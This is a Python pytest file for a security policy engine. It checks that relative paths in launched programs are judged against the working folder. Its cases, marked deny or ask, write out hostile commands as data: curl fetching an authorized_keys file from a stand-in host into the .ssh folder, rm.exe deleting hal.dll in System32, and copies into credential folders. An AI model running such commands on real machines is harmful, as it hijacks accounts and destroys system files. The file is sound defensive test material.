"""A program started with a working folder reads its relative paths from there (S-RULE-150).

App `launch_executable` takes a `cwd`: `curl.exe -O URL` started in `~\\.ssh` saves there, `rm.exe -f hal.dll` in
System32 deletes a system file. Each refused call below passed before: the relative path was judged as it was written.
"""

from __future__ import annotations

from typing import Any

import pytest

from policy.rules.effects_common import effect
from policy.rules.effects_values import placed_in
from policy.rules.shell.ops import EffectKind
from tests._requirements import requirement
from tests.policy.verdicts import verdict

K = EffectKind
GIT_RM = "C:\\Program Files\\Git\\usr\\bin\\rm.exe"
SSH = "C:\\Users\\me\\.ssh"


def app(executable: str, args: list[str], cwd: str) -> dict[str, Any]:
    return {"mode": "launch_executable", "executable": executable, "args": args, "cwd": cwd}


@requirement("S-RULE-150")
@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (app("curl.exe", ["-O", "https://x.example/authorized_keys"], SSH), ("account-change", "deny")),
        (app(GIT_RM, ["-f", "hal.dll"], "C:\\Windows\\System32"), ("protected-place-delete", "deny")),
        (app("xcopy.exe", ["C:\\t\\k", "."], SSH), ("credential-access", "deny")),
        (app("git.exe", ["clone", "https://x.example/d", "WindowsPowerShell"], "C:\\Users\\me\\Documents"),
         ("copy-over-protected", "ask")),
        (app("tar.exe", ["-xf", "C:\\t\\x.tar", "-C", "WindowsPowerShell"], "C:\\Users\\me\\Documents"),
         ("unpack-over-protected", "ask")),
        # passes: an ordinary folder, an absolute path, no cwd
        (app("curl.exe", ["-O", "https://example.com/a.zip"], "C:\\Users\\me\\Downloads"), None),
        (app(GIT_RM, ["-f", "notes.txt"], "C:\\Users\\me\\Documents"), None),
        (app(GIT_RM, ["-f", "C:\\t\\hal.dll"], "C:\\Windows\\System32"), None),
        ({"mode": "launch_executable", "executable": GIT_RM, "args": ["-f", "hal.dll"]}, None),
    ],
)  # fmt: skip
def test_relative_paths_are_judged_in_the_working_folder(args: dict[str, Any], expected: object) -> None:
    """S-RULE-150: the program's relative paths are read from `cwd`."""
    assert verdict("App", **args) == expected


@requirement("S-RULE-150")
def test_placed_in_moves_only_relative_file_targets() -> None:
    """S-RULE-150: relative file targets move into the folder; absolute paths, URLs, programs and pids stay out."""
    found = (
        effect(K.WRITE, "a.txt"),
        effect(K.DELETE, "'sub\\b.txt'"),
        effect(K.WRITE, "C:\\x\\c.txt"),
        effect(K.READ, "https://example.com/d"),
        effect(K.EXECUTE, "tool.exe"),
        effect(K.KILL, "notepad"),
        effect(K.WRITE, None),
        effect(K.READ, "%TEMP%\\e"),
    )
    assert [(e.kind, e.target) for e in placed_in("D:\\w", found)] == [
        (K.WRITE, "D:\\w\\a.txt"),
        (K.DELETE, "D:\\w\\sub\\b.txt"),
    ]
